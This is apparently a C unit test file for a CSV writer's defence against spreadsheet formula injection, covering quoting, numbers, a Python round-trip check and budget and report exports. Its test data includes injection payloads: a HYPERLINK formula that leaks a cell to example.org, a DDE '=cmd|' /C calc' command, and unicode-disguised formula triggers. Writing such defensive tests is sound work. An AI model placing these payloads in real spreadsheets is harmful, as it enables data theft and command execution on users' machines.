/* test-csv.c — the CSV writer: quoting, numbers, and no formula ever reaching a
 * spreadsheet (CSV injection), checked by Python's csv module and through the budget and
 * report exports
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "test-common.h"

/* Every cell that starts, or seems to start, a formula. */
static const char *const formulas[] = {
  "=1+1",
  "=HYPERLINK(\"http://example.org/?leak=\"&A1,\"Click\")",
  "=cmd|' /C calc'!A0",
  "+41 20 000 0000",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\tplain after a tab",
  "\rplain after a carriage return",
  "  =1+1",
  "\xc2\xa0\xe3\x80\x80=1+1",          /* no-break and ideographic spaces */
  "\xe2\x80\x8b=1+1",                  /* a zero-width space */
  "\xef\xbb\xbf@SUM(1)",               /* a byte-order mark */
  "\n=1+1",
  "'=1+1",                             /* already quoted once */
  "\"=1+1\"",
  "\xef\xbc\x9d" "1+1",                /* ＝ */
  "\xef\xbc\x8b" "1",                  /* ＋ */
  "\xef\xbc\x8d" "1",                  /* － */
  "\xef\xbc\xa0" "SUM(1)",             /* ＠ */
  "\xef\xb9\xa6" "1",                  /* small ﹦ */
  "\xe2\x88\x92" "1",                  /* − minus sign */
  "-",
  "=",
};

/* Cells that are text and stay exactly as they are. */
static const char *const harmless[] = {
  "",
  "Conference hall and lunch, 60 people",
  "a=b",
  "x-1",
  "2026-03-05",
  "Kwame \"KK\" Asante",
  "Line one\r\nline two",
  "张伟 — 矿业部",
  "100%",
  "bad UTF-8 \xff\xfe",
  "\xff=1",
};

static char *
write_one (const char *text)
{
  GString *out = g_string_new (NULL);
  DeskCsv csv;

  desk_csv_init (&csv, out, FALSE);
  desk_csv_field (&csv, text);

  return g_string_free (out, FALSE);
}

/* The cell as RFC 4180 reads it back: quotes undone. */
static char *
read_one (const char *cell)
{
  GString *value = g_string_new (NULL);

  if (cell[0] != '"')
    return g_strdup (cell);
  for (const char *p = cell + 1; *p != '\0'; p++)
    {
      if (*p == '"' && p[1] == '"')
        p++;
      else if (*p == '"')
        break;
      g_string_append_c (value, *p);
    }

  return g_string_free (value, FALSE);
}

static void
test_formula_triggers (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (formulas); i++)
    {
      g_autofree char *written = write_one (formulas[i]);
      g_autofree char *read = read_one (written);
      g_autofree char *expected = g_strconcat ("'", formulas[i], NULL);
      g_autofree char *shown = g_strescape (formulas[i], NULL);

      g_test_message ("“%s” → %s", shown, written);
      g_assert_true (desk_csv_is_formula (formulas[i]));
      if (!g_str_equal (read, expected))
        g_error ("“%s” was written as %s, not with one quote in front", shown, written);
    }

  /* Exactly as a spreadsheet will see it. */
  {
    g_autofree char *hyperlink = write_one (formulas[1]);
    g_autofree char *dde = write_one ("=cmd|' /C calc'!A0");

    g_assert_cmpstr (hyperlink, ==,
                     "\"'=HYPERLINK(\"\"http://example.org/?leak=\"\"&A1,\"\"Click\"\")\"");
    g_assert_cmpstr (dde, ==, "'=cmd|' /C calc'!A0");
  }
}

static void
test_harmless_unchanged (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (harmless); i++)
    {
      g_autofree char *written = write_one (harmless[i]);
      g_autofree char *read = read_one (written);

      g_assert_false (desk_csv_is_formula (harmless[i]));
      g_assert_cmpstr (read, ==, harmless[i]);
    }

  {
    g_autofree char *none = write_one (NULL);

    g_assert_cmpstr (none, ==, "");
  }
}

static void
test_numbers_unchanged (void)
{
  static const char *const numbers[] = { "0", "-500.00", "12.5", "-0.1", "1234567" };
  static const char *const not_numbers[] = { "", "-", "1,234", "12.", ".5", "1e5", "+1", "- 1" };
  GString *out = g_string_new (NULL);
  DeskCsv csv;

  desk_csv_init (&csv, out, FALSE);
  desk_csv_field_int (&csv, -500);
  desk_csv_field_int (&csv, G_MININT64);
  desk_csv_field_fixed (&csv, -50000, 2);
  desk_csv_field_fixed (&csv, 123456789, 2);
  desk_csv_field_fixed (&csv, -5, 3);
  desk_csv_field_number (&csv, "-12.5");
  desk_csv_field_number (&csv, "=1+1");
  desk_csv_field_number (&csv, "12,5");
  desk_csv_field_number (&csv, "-");
  desk_csv_end_row (&csv);
  g_assert_cmpstr (out->str, ==,
                   "-500,-9223372036854775808,-500.00,1234567.89,-0.005,-12.5,"
                   "'=1+1,\"12,5\",'-\r\n");
  g_string_free (out, TRUE);

  for (guint i = 0; i < G_N_ELEMENTS (numbers); i++)
    g_assert_true (desk_csv_is_number (numbers[i]));
  for (guint i = 0; i < G_N_ELEMENTS (not_numbers); i++)
    g_assert_false (desk_csv_is_number (not_numbers[i]));
}

/* Python's csv module reads the file back; each cell must be the text with its one
 * quote, or the number unchanged. The expectations travel as hex after an "x" (so that
 * an empty cell is still a word), one row a line. */
static const char *const python_check =
  "import csv, sys\n"
  "rows = list(csv.reader(open(sys.argv[1], encoding='utf-8-sig', newline='')))\n"
  "want = [[bytes.fromhex(c[1:]).decode('utf-8') for c in l.split(' ')]\n"
  "        for l in open(sys.argv[2]).read().splitlines()]\n"
  "assert len(rows) == len(want), (len(rows), len(want))\n"
  "for r, w in zip(rows, want):\n"
  "    assert r == w, (r, w)\n"
  "    for c in r:\n"
  "        assert not c or c[0] not in '=+-@\\t\\r\\uff1d\\uff0b\\uff0d\\uff20' or \\\n"
  "            (c[0] == '-' and c[1:].replace('.', '', 1).isdigit()), c\n"
  "print('read', len(rows), 'rows')\n";

static void
add_expected (GString    *expected,
              const char *cell)
{
  g_autofree char *hex = NULL;
  GString *h = g_string_new ("x");

  for (const char *p = cell; *p != '\0'; p++)
    g_string_append_printf (h, "%02x", (guchar) *p);
  hex = g_string_free (h, FALSE);
  if (expected->len > 0 && expected->str[expected->len - 1] != '\n')
    g_string_append_c (expected, ' ');
  g_string_append (expected, hex);
}

static void
test_python_round_trip (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = test_make_tmpdir ();
  g_autofree char *csv_path = g_build_filename (dir, "cells.csv", NULL);
  g_autofree char *expected_path = g_build_filename (dir, "expected.txt", NULL);
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  GString *written = g_string_new (NULL);
  GString *expected = g_string_new (NULL);
  const char *argv[] = { "python3", "-c", python_check, csv_path, expected_path, NULL };
  int status = 0;
  DeskCsv csv;

  desk_csv_init (&csv, written, TRUE);
  for (guint i = 0; i < G_N_ELEMENTS (formulas); i++)
    {
      g_autofree char *defused = g_strconcat ("'", formulas[i], NULL);
      g_autofree char *shown = NULL;

      /* Python reads "\r" and "\r\n" inside quotes as they are. */
      desk_csv_field (&csv, formulas[i]);
      desk_csv_field_fixed (&csv, -((gint64) i * 1001), 2);
      desk_csv_end_row (&csv);
      add_expected (expected, defused);
      shown = g_strdup_printf ("-%" G_GINT64_FORMAT ".%02" G_GINT64_FORMAT,
                               ((gint64) i * 1001) / 100, ((gint64) i * 1001) % 100);
      add_expected (expected, i == 0 ? "0.00" : shown);
      g_string_append_c (expected, '\n');
    }
  for (guint i = 0; i < G_N_ELEMENTS (harmless); i++)
    {
      if (!g_utf8_validate (harmless[i], -1, NULL))
        continue;
      desk_csv_field (&csv, harmless[i]);
      desk_csv_field_int (&csv, -(gint64) i);
      desk_csv_end_row (&csv);
      add_expected (expected, harmless[i]);
      {
        g_autofree char *number = g_strdup_printf ("%d", -(int) i);
        add_expected (expected, number);
      }
      g_string_append_c (expected, '\n');
    }
  test_write_file (csv_path, written->str, (gssize) written->len);
  test_write_file (expected_path, expected->str, (gssize) expected->len);
  g_string_free (written, TRUE);
  g_string_free (expected, TRUE);

  g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, &out, &err,
                &status, &error);
  g_assert_no_error (error);
  if (!g_spawn_check_wait_status (status, NULL))
    g_error ("python3 check failed:\n%s\n%s", out, err);
  g_test_message ("%s", out);

  test_rm_rf (dir);
}

/* The budget's and the report's CSV, with hostile text in every field a user can type
 * (or another group's bundle can bring). */
static void
test_exports_defused (void)
{
  g_autoptr(DeskStore) store = test_open_memory (NULL);
  g_autoptr(TestWorld) world = test_world_new (store, "GH-TEST");
  g_autoptr(DeskRecord) line = NULL;
  g_autoptr(DeskRecord) expense = NULL;
  g_autoptr(DeskRecord) indicator = NULL;
  g_autoptr(DeskRecord) share = NULL;
  g_autoptr(DeskBudgetSummary) summary = NULL;
  g_autoptr(DeskReport) report = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *lines_csv = NULL;
  g_autofree char *expenses_csv = NULL;
  g_autofree char *report_csv = NULL;

  line = test_add (store, DESK_KIND_BUDGET_LINE, NULL,
                   "workplan_uuid", test_world_uuid (world, "workplan"),
                   "category", "venue", "description_en", "=HYPERLINK(\"http://x\",\"y\")",
                   "quantity_milli", "1000", "unit", "@day", "unit_cost_minor", "100",
                   "currency", "GHS", NULL);
  expense = test_add (store, DESK_KIND_EXPENSE, NULL,
                      "budget_line_uuid", desk_record_get_uuid (line), "date", "2026-02-02",
                      "amount_minor", "50000", "currency", "GHS",
                      "payee", "=cmd|' /C calc'!A0", "reference", "+1-800",
                      "note", "\t@SUM(1)", NULL);
  indicator = test_add (store, DESK_KIND_INDICATOR, NULL,
                        "workplan_uuid", test_world_uuid (world, "workplan"),
                        "name_en", "-Dialogue held", "unit", "text",
                        "baseline_text", "=1+2", NULL);
  share = test_add (store, DESK_KIND_INDICATOR, NULL,
                    "workplan_uuid", test_world_uuid (world, "workplan"),
                    "name_en", "Share in words", "unit", "text", "baseline_text", "12,5", NULL);

  summary = desk_budget_summarise (store, test_world_uuid (world, "workplan"), &error);
  g_assert_no_error (error);
  lines_csv = desk_budget_lines_csv (store, summary, DESK_BUDGET_REVISED, FALSE, &error);
  g_assert_no_error (error);
  expenses_csv = desk_budget_expenses_csv (store, summary, FALSE, &error);
  g_assert_no_error (error);
  report = desk_report_compute (store, DESK_REPORT_INDICATORS, world->group, NULL, NULL, &error);
  g_assert_no_error (error);
  report_csv = desk_report_to_csv (report, FALSE);
  g_test_message ("%s%s%s", lines_csv, expenses_csv, report_csv);

  g_assert_nonnull (strstr (lines_csv, "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\""));
  g_assert_nonnull (strstr (lines_csv, ",'@day,"));
  /* The line is overspent: its variance is a negative number, and stays one. */
  g_assert_nonnull (strstr (lines_csv, ",-499.00,"));
  g_assert_null (strstr (lines_csv, "'-"));
  g_assert_nonnull (strstr (expenses_csv, ",'=cmd|' /C calc'!A0,'+1-800,500.00,"));
  g_assert_nonnull (strstr (expenses_csv, ",'\t@SUM(1)\r\n"));
  /* A text indicator's value sits in a number column: it is text, and defused. */
  g_assert_nonnull (strstr (report_csv, "'-Dialogue held,"));
  g_assert_nonnull (strstr (report_csv, ",'=1+2,"));
  /* … and never stripped into a number it did not say (12,5 is not 125). */
  g_assert_nonnull (strstr (report_csv, ",\"12,5\","));
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

  g_test_add_func ("/core/csv/formula-triggers", test_formula_triggers);
  g_test_add_func ("/core/csv/harmless-unchanged", test_harmless_unchanged);
  g_test_add_func ("/core/csv/numbers-unchanged", test_numbers_unchanged);
  g_test_add_func ("/core/csv/python-round-trip", test_python_round_trip);
  g_test_add_func ("/core/csv/exports-defused", test_exports_defused);

  return g_test_run ();
}
